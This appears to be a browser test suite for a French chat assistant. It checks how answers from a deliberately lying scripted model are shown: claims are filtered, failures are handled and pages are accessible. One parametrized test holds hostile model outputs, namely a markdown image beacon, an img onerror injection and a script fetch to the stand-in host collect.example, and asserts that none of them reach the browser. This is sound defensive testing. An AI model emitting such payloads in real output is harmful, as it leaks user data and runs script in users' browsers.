"""An answer in a model's words, as people see it arrive, with a model that lies over real HTTP."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import replace
from time import monotonic
from typing import Any

import pytest
from playwright.sync_api import expect

from assistant.answering.writing.synthesis import Synthesis
from assistant.bilingual import Language
from assistant.bootstrap import model as bootstrap_model
from assistant.settings import Settings
from assistant.web.chat import writing_wording as ww
from tests.browser.conftest import Server, Visitor
from tests.model_server.delivery import Delivery
from tests.model_server.running import ModelServer, model_server
from tests.support.listening import TAXONOMY
from tests.support.writing import SameWords, ScriptedModel, rewording

Arrive = Callable[..., Visitor]
QUESTION = "Que dit la charte des données clients ?"
TRUE = (
    "Les données clients ne peuvent être saisies dans Microsoft 365 Copilot que si la référence "
    "du client est masquée [1]."
)
WRITTEN = ".rl-written"


@pytest.fixture(scope="module")
def liar() -> Iterator[ModelServer]:
    with model_server("faithful") as running:
        yield running


@pytest.fixture
def model(server: Server, liar: ModelServer) -> Iterator[ModelServer]:
    """The model server, connected to the application for the length of a test."""
    settings = Settings(
        workspace=server.services.settings.workspace, model_url=liar.url, model_name="m"
    )
    writer = bootstrap_model.writer_over(settings, server.services.records.model_usage)
    assert writer is not None
    writer.load()
    connected = rewording(ScriptedModel())
    synthesis = Synthesis(writer, SameWords(), monotonic)
    # The application is running, and its services cannot be exchanged from outside.
    object.__setattr__(
        server.services, "rewording", replace(connected, synthesis=synthesis, model=writer)
    )
    liar.deliver(Delivery())
    yield liar
    object.__setattr__(server.services, "rewording", None)
    writer.close()


def violations(someone: Visitor, axe_script: str) -> list[str]:
    someone.page.evaluate(axe_script)
    found = someone.page.evaluate("axe.run({resultTypes: ['violations']})")["violations"]
    return [f"{one['id']}: {one['nodes'][0]['html']}" for one in found]


def ask(someone: Visitor, question: str = QUESTION) -> Any:
    someone.open_chat()
    someone.ask(question)
    card = someone.last.locator(WRITTEN)
    expect(card).to_have_attribute("aria-busy", "false")
    return card


def test_true_sentences_stand_above_the_documents_and_open_their_source(
    visitor: Arrive, model: ModelServer
) -> None:
    model.say(TRUE)
    someone = visitor()
    card = ask(someone)
    expect(card.locator(".rl-written-text")).to_contain_text("que si la référence du client")
    expect(someone.last.locator(".rl-quote")).to_have_count(2)
    card.locator(".rl-number").first.click()
    expect(someone.page.locator(".rl-passage mark").first).to_contain_text("référence du client")


def test_what_is_false_is_never_on_the_page(visitor: Arrive, model: ModelServer) -> None:
    model.say(TRUE + " Le contrat du client peut contenir une clause contraire [2].")
    someone = visitor()
    card = ask(someone)
    expect(card).to_contain_text(ww.PARTLY.fr)
    assert "peut contenir" not in someone.page.content()
    assert not any("peut contenir" in frame for frame in someone.frames)


@pytest.mark.parametrize(
    "said",
    [
        "![](https://collect.example/p.png?q=1) " + TRUE,
        "<img src=https://collect.example/x onerror=alert(1)> " + TRUE,
        "<script>fetch('https://collect.example/')</script> " + TRUE,
        "[" + TRUE + "](https://collect.example/) [1].",
    ],
)
def test_nothing_the_model_writes_makes_the_browser_ask_elsewhere(
    visitor: Arrive, model: ModelServer, said: str
) -> None:
    model.say(said)
    someone = visitor()
    ask(someone)
    strangers = [
        url
        for url in someone.requests
        if not url.startswith(
            (someone.server.address, someone.server.address.replace("http", "ws"))
        )
        and not url.startswith(("data:", "blob:"))
    ]
    assert strangers == []
    assert someone.page.locator('[src*="collect.example"], [href*="collect.example"]').count() == 0


@pytest.mark.parametrize("fault", ["server-error", "nothing", "invalid-json", "reset"])
def test_a_model_that_fails_leaves_the_documents_and_one_quiet_line(
    visitor: Arrive, model: ModelServer, fault: str
) -> None:
    model.say(TRUE)
    model.deliver(Delivery(fault=fault))  # type: ignore[arg-type]
    someone = visitor()
    card = ask(someone)
    expect(card).to_contain_text(ww.UNAVAILABLE.fr)
    expect(someone.last.locator(".rl-quote")).to_have_count(2)


def test_a_verdict_is_shown_without_the_model(visitor: Arrive, model: ModelServer) -> None:
    model.say("Oui, tout est permis [1].")
    asked = len(model.requests)
    someone = visitor()
    someone.open_chat()
    someone.ask("Puis-je mettre des données clients dans Copilot ?")
    expect(someone.last.locator(WRITTEN)).to_have_count(0)
    assert len(model.requests) == asked


def test_an_urgent_message_goes_to_no_model_and_nothing_waits_for_one(
    visitor: Arrive, server: Server, model: ModelServer
) -> None:
    model.say(TRUE)
    asked = len(model.requests)
    server.topics.known = TAXONOMY
    try:
        someone = visitor()
        someone.open_chat()
        someone.ask("Un danger : que dit la charte des données clients ?")
    finally:
        server.topics.known = None
    expect(someone.last.locator(".rl-quote")).to_have_count(2)
    expect(someone.page.locator(WRITTEN)).to_have_count(0)
    assert len(model.requests) == asked
    someone.ask("Et que dit-elle des clauses du contrat ?")
    assert not any("danger" in str(request).lower() for request in model.requests[asked:])


def test_plain_words_come_on_demand(visitor: Arrive, model: ModelServer) -> None:
    model.say(TRUE)
    someone = visitor()
    card = ask(someone)
    asked = len(model.requests)
    card.get_by_role("button", name=ww.LABELS["writingPlain"].fr).click()
    expect(card).to_have_attribute("aria-busy", "false")
    expect(card.locator(".rl-written-text")).to_contain_text("que si la référence du client")
    assert len(model.requests) == asked + 1


@pytest.mark.parametrize("language", ["fr", "en"])
@pytest.mark.parametrize("dark", [False, True])
def test_everybody_can_read_it(
    visitor: Arrive, model: ModelServer, axe_script: str, language: Language, dark: bool
) -> None:
    model.say(TRUE)
    someone = visitor(language=language, dark=dark, phone=True)
    ask(someone)
    assert violations(someone, axe_script) == []
    someone.page.goto(f"{someone.server.address}/sent")
    assert violations(someone, axe_script) == []
    assert someone.page.evaluate("document.documentElement.scrollWidth <= innerWidth")
